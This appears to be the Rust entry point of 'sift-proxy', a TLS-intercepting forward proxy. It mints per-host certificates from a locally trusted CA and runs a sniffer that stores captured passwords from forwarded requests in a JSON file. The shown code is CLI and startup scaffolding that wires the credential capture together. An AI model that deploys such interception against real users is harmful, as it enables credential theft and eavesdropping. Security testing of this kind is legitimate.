//! sift-proxy
//!
//! An intercepting HTTP/HTTPS forward proxy. Clients that trust the local
//! CA get their TLS sessions terminated on both sides: the proxy verifies
//! the origin's certificate, mints a per-host leaf signed by the CA, and
//! forwards plaintext HTTP/1.1 messages in both directions while a side
//! channel captures credentials from forwarded requests.
//!
//! Architecture:
//! 1. Accept loop with a live-session registry and graceful shutdown
//! 2. Per-session state machine (plain HTTP or CONNECT + double TLS)
//! 3. Streaming HTTP/1.1 framer with chunked transfer and gzip/br codings
//! 4. On-the-fly leaf minting mirroring upstream SANs
//! 5. Credential sniffer feeding a JSON store

mod ca;
mod errors;
mod http;
mod server;
mod session;
mod sniffer;

use std::path::{Path, PathBuf};
use std::sync::Arc;

use anyhow::{Context, Result};
use clap::{Parser, Subcommand};
use tracing::{info, warn};
use tracing_subscriber::EnvFilter;

use crate::ca::CertificateAuthority;
use crate::server::ProxyServer;
use crate::sniffer::PasswordCollector;

/// Intercepting HTTP/HTTPS forward proxy with credential capture
#[derive(Parser)]
#[command(name = "sift-proxy")]
#[command(about = "Intercepting HTTP/HTTPS forward proxy with credential capture")]
struct Cli {
    #[command(subcommand)]
    command: Commands,
}

#[derive(Subcommand)]
enum Commands {
    /// Start the proxy server
    Start {
        /// Host to listen on
        #[arg(long, default_value = "localhost")]
        host: String,

        /// Port to listen on
        #[arg(short, long, default_value = "8080")]
        port: u16,

        /// Maximum number of concurrently connected clients
        #[arg(short, long, default_value = "100")]
        users: u32,

        /// Per-read buffer size hint in bytes
        #[arg(short, long, default_value = "4096")]
        buffer: usize,

        /// CA working directory (minted leaves land in its ssl/ subdir)
        #[arg(long, default_value = "./openssl")]
        ca_dir: PathBuf,

        /// CA certificate file name inside the working directory
        #[arg(long, default_value = "RootCA.crt")]
        ca_cert: String,

        /// CA private key file name inside the working directory
        #[arg(long, default_value = "RootCA.key")]
        ca_key: String,

        /// Credential store directory
        #[arg(long, default_value = "./passwords")]
        store_dir: PathBuf,

        /// Credential store file name
        #[arg(long, default_value = "passwords.json")]
        store_file: String,

        /// Enable verbose logging
        #[arg(short, long)]
        verbose: bool,
    },

    /// Generate a root CA certificate for TLS interception
    GenerateCa {
        /// Output directory
        #[arg(short, long, default_value = "./openssl")]
        output: PathBuf,

        /// CA certificate file name
        #[arg(long, default_value = "RootCA.crt")]
        ca_cert: String,

        /// CA private key file name
        #[arg(long, default_value = "RootCA.key")]
        ca_key: String,
    },
}

fn expand(path: &Path) -> PathBuf {
    PathBuf::from(shellexpand::tilde(&path.to_string_lossy()).to_string())
}

fn init_logging(verbose: bool) {
    let filter = EnvFilter::try_from_default_env()
        .unwrap_or_else(|_| EnvFilter::new(if verbose { "debug" } else { "info" }));
    tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_target(false)
        .init();
}

#[allow(clippy::too_many_arguments)]
async fn start_proxy(
    host: String,
    port: u16,
    users: u32,
    buffer: usize,
    ca_dir: PathBuf,
    ca_cert: String,
    ca_key: String,
    store_dir: PathBuf,
    store_file: String,
) -> Result<()> {
    info!("sift-proxy starting on {host}:{port}");

    let ca = CertificateAuthority::open(&expand(&ca_dir), &ca_cert, &ca_key)
        .context("failed to load CA material")?;
    info!("CA certificate loaded from {}", ca_dir.display());

    let collector = PasswordCollector::open(&expand(&store_dir), &store_file)
        .context("failed to open credential store")?;

    let server = Arc::new(ProxyServer::new(
        &host,
        port,
        users,
        buffer,
        Arc::new(ca),
        Arc::new(collector),
    ));

    let runner = Arc::clone(&server);
    let mut handle = tokio::spawn(async move { runner.run().await });

    tokio::select! {
        result = &mut handle => result??,
        _ = tokio::signal::ctrl_c() => {
            warn!("interrupt received, shutting down");
            server.shutdown();
            handle.await??;
        }
    }
    Ok(())
}

fn generate_ca(output: &Path, ca_cert: &str, ca_key: &str) -> Result<()> {
    let output = expand(output);
    ca::generate_ca(&output, ca_cert, ca_key).context("failed to generate CA")?;

    println!("CA certificate generated in {}", output.display());
    println!("\nTo intercept TLS, clients must trust this CA:");
    println!("  1. Import {} into the browser/system store", output.join(ca_cert).display());
    println!("  2. Point clients at the proxy (e.g. http_proxy/https_proxy)");
    Ok(())
}

#[tokio::main]
async fn main() -> Result<()> {
    rustls::crypto::ring::default_provider()
        .install_default()
        .expect("failed to install rustls crypto provider");

    let cli = Cli::parse();

    match cli.command {
        Commands::Start {
            host,
            port,
            users,
            buffer,
            ca_dir,
            ca_cert,
            ca_key,
            store_dir,
            store_file,
            verbose,
        } => {
            init_logging(verbose);
            start_proxy(
                host, port, users, buffer, ca_dir, ca_cert, ca_key, store_dir, store_file,
            )
            .await?;
        }
        Commands::GenerateCa {
            output,
            ca_cert,
            ca_key,
        } => {
            init_logging(false);
            generate_ca(&output, &ca_cert, &ca_key)?;
        }
    }

    Ok(())
}
